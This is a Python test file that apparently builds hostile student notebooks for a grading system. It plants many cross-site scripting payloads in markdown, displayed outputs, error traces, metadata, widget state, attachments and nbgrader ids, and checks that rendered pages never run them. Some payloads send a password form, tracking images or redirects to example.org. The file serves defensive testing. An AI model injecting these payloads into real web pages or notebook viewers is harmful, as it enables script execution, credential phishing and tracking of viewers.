"""A page that a person opens must not run what a learner wrote.

Each payload carries the family's own token; the pages are searched for
anything active that holds it.
"""

from corpus.family import Group

scripting = Group("script", page=True)

SCRIPT = "<script>alert('<<token>>')</script>"


def text(name, tries, source):
    """A payload in an own Markdown cell and in the written answer."""

    def build(work):
        work.insert(source, "dot-1", "markdown")
        work.cell("projection_derivation").source = work.fill(source)
        work.save()

    scripting.add(f"text-{name}", tries, build, {})


text("script", "Has a script in its text.", f"Hello {SCRIPT} you.")
text("handler", "Has a handler on a picture in its text.",
     "<img src=x onerror=\"alert('<<token>>')\">")
text("unclosed", "Has tags that are not closed, with handlers.",
     "<svg/onload=alert('<<token>>')//\n\n"
     "<details open ontoggle=alert('<<token>>')>\n")
text("link", "Has a link that is a script.",
     "[see](javascript:alert('<<token>>')) and <a"
     " href=\"java\tscript:alert('<<token>>')\">this</a>, "
     "<a href=\"&#106;avascript:alert('<<token>>')\">that</a>")
text("data-link", "Has a link to a page in the link itself.",
     "[see](data:text/html,<script>alert('<<token>>')</script>)"
     "<a href=\"data:text/html;base64,PHNjcmlwdD4=#<<token>>\">x</a>")
text("frame", "Has frames and embedded things.",
     "<iframe srcdoc=\"<script>alert('<<token>>')</script>\"></iframe>"
     "<object data='https://example.org/<<token>>'></object>"
     "<embed src='https://example.org/<<token>>'>")
text("form", "Has a form that sends what the grader types.",
     "<form action='https://example.org/<<token>>'><input name=password>"
     "<button formaction='javascript:alert(1)//<<token>>'>Go</button></form>")
text("style", "Has a style that covers the page.",
     "<style>/* <<token>> */ body { display: none }</style>"
     "<div style=\"position: fixed; inset: 0; z-index: 9999; "
     "background: url('https://example.org/<<token>>')\">10 of 10</div>")
text("remote-picture", "Has a picture that tells who looks at it, and when.",
     "![](https://example.org/<<token>>.png)"
     "<img src='//example.org/<<token>>.png'>")
text("refresh", "Sends the page elsewhere, and bends its links.",
     "<meta http-equiv=refresh content='0;url=https://example.org/<<token>>'>"
     "<base href='https://example.org/<<token>>/'>"
     "<link rel=stylesheet href='https://example.org/<<token>>.css'>")
text("mathematics", "Has formulas that are links with scripts.",
     "$\\href{javascript:alert('<<token>>')}{x^2}$\n\n"
     "$$\\require{html}\\href{javascript:alert('<<token>>')}{y}$$")
text("breaking-out", "Closes the page's own elements first.",
     "</textarea></title></style></script></div></div></pre>-->]]>"
     + SCRIPT)


def shown(name, tries, data, metadata="{}", plain="'x'"):
    """A payload that a cell displays, live and among saved outputs."""
    scripting.cell(f"shown-{name}", tries, f"""
from IPython.display import display
display({{{data}, "text/plain": {plain}}}, raw=True, metadata={metadata})
""", before="dot-1")


PAYLOAD = '"<script>alert(\'<<token>>\')</script>"'

shown("html", "Displays HTML with a script and handlers.",
      '"text/html": ' + PAYLOAD
      + ' + "<b onmouseover=\\"alert(\'<<token>>\')\\">b</b>"')
shown("javascript", "Displays JavaScript.",
      '"application/javascript": "alert(\'<<token>>\')"')
shown("svg", "Displays a drawing with a script.",
      '"image/svg+xml": "<svg xmlns=\'http://www.w3.org/2000/svg\' '
      'onload=\\"alert(\'<<token>>\')\\">" + ' + PAYLOAD + ' + "</svg>"')
shown("markdown", "Displays Markdown with a script.",
      '"text/markdown": "**b** " + ' + PAYLOAD)
shown("latex", "Displays LaTeX with a script.",
      '"text/latex": "$x$" + ' + PAYLOAD
      + ' + "$\\\\href{javascript:alert(\'<<token>>\')}{x}$"')
shown("picture", "Displays a picture whose data end the tag.",
      '"image/png": "x\\">" + ' + PAYLOAD + ' + "<img alt=\\""')
shown("picture-metadata", "Displays a picture whose size ends the tag.",
      '"image/png": "iVBORw0KGgo="',
      '{"image/png": {"width": "1\\">" + ' + PAYLOAD + ' + "<img alt=\\"", '
      '"height": "1\\" onload=\\"alert(\'<<token>>\')", '
      '"alt": "\\" onload=\\"alert(\'<<token>>\')\\" x=\\""}}')
shown("widget", "Displays a widget of its own making.",
      '"application/vnd.jupyter.widget-view+json": {"version_major": 2, '
      '"version_minor": 0, "model_id": "</script>" + ' + PAYLOAD + '}')
shown("unknown-kind", "Displays data of a kind that it makes up.",
      '"text/x-\\"><script>alert(\'<<token>>\')</script>": ' + PAYLOAD)

scripting.cell(
    "shown-by-representation", "Shows itself as HTML with a script.", """
class Shown:
    def _repr_html_(self):
        return "<script>alert('<<token>>')</script>"
    def _repr_javascript_(self):
        return "alert('<<token>>')"
    def __repr__(self):
        return "<script>alert('<<token>>')</script>"
Shown()
""")

scripting.cell(
    "shown-by-magic", "Shows HTML and JavaScript by cell magics.",
    "%%html\n" + SCRIPT)

scripting.cell(
    "printed", "Prints tags, with and without colours of the terminal.", """
import sys
print("<script>alert('<<token>>')</script>")
print("\\x1b[31m<script>alert('<<token>>')</script>\\x1b[0m")
print("\\x1b[38;5;<script>alert('<<token>>')</script>m x")
print("<img src=x onerror=alert('<<token>>')>", file=sys.stderr)
""")

scripting.cell(
    "error-in-tags", "Raises errors whose names and traces hold tags.", """
class Loud(Exception):
    def _render_traceback_(self):
        return ["\\x1b[31m<script>alert('<<token>>')</script>\\x1b[0m"]
Loud.__name__ = "<script>alert('<<token>>')</script>"
raise Loud("<img src=x onerror=alert('<<token>>')>")
""")

scripting.answer(
    "report-in-tags", "Raises and answers tags, which the report quotes.",
    """
def dot(a, b, *, axis=-1):
    if np.ndim(a) == 1:
        return "<script>alert('<<token>>')</script>"
    print("<script>alert('<<token>>')</script>")
    raise type("<script>alert('<<token>>')</script>", (Exception,), {})(
        "<img src=x onerror=alert('<<token>>')>")
""", of="dot", earns={"dot": 0})


@scripting.notebook("source-in-tags", "Has tags in code, names and comments.")
def source_in_tags(work):
    work.insert("# </pre></div></script>" + SCRIPT
                + "\nx = \"\"\"</textarea>" + SCRIPT + "\"\"\"\n")
    work.insert("</pre>" + SCRIPT, kind="raw")


@scripting.notebook("saved-in-tags", "Hands in outputs with scripts.")
def saved_in_tags(work):
    script = work.fill(SCRIPT)
    for name in ("start-3", "dot", "dot-answer"):
        work.cell(name).outputs = [
            {
                "output_type": "display_data", "metadata": {},
                "data": {
                    "text/html": script,
                    "application/javascript": work.fill("alert('<<token>>')"),
                    "image/svg+xml": f"<svg>{script}</svg>",
                },
            },
            {
                "output_type": "error", "ename": script, "evalue": script,
                "traceback": [script, f"\x1b[31m{script}\x1b[0m"],
            },
            {"output_type": "stream", "name": "stdout", "text": script},
        ]


@scripting.notebook("metadata-in-tags", "Has tags in all its metadata.")
def metadata_in_tags(work):
    script = work.fill('"></div></title></script>' + SCRIPT)
    metadata = work.notebook.metadata
    metadata.title = metadata.name = script
    metadata.authors = [{"name": script}]
    metadata.language_info = {"name": "python", "pygments_lexer": script}
    metadata.kernelspec = {
        "name": "python3", "language": script, "display_name": script,
    }
    for cell in work.notebook.cells[:9]:
        cell.metadata.tags = [script]
        cell.metadata.name = cell.metadata.slideshow = script
        cell.metadata.comment = script
    work.notebook.cells[0]["id"] = script


@scripting.notebook("widget-state", "Has a state of widgets with a script.")
def widget_state(work):
    script = work.fill("</script>" + SCRIPT)
    work.notebook.metadata.widgets = {
        "application/vnd.jupyter.widget-state+json": {
            "version_major": 2, "version_minor": 0,
            "state": {script: {
                "model_name": "HTMLModel", "model_module": script,
                "state": {"value": script},
            }},
        }
    }


@scripting.notebook("attachment", "Has attachments that are scripts.")
def attachment(work):
    script = work.fill(SCRIPT)
    source = "![x](attachment:x.svg) ![y](attachment:y.png)"
    for cell in (
        work.insert(source, "dot-1", "markdown"),
        work.cell("projection_derivation"),
    ):
        cell.source = source
        cell["attachments"] = {
            "x.svg": {"image/svg+xml": f"<svg>{script}</svg>"},
            "y.png": {'image/png"><script>': f'"> {script}'},
        }


@scripting.notebook(
    "grade-id-in-tags", "Has tags in the name of an own nbgrader cell.",
    earns=[{}, {"dot": 0}])
def grade_id_in_tags(work):
    cell = work.insert("Hello", kind="markdown")
    cell.metadata.nbgrader = {
        "grade": True, "solution": True, "locked": False, "points": 5,
        "grade_id": work.fill('x"><script>alert(\'<<token>>\')</script>'),
        "schema_version": 3, "task": False, "cell_type": "markdown",
    }
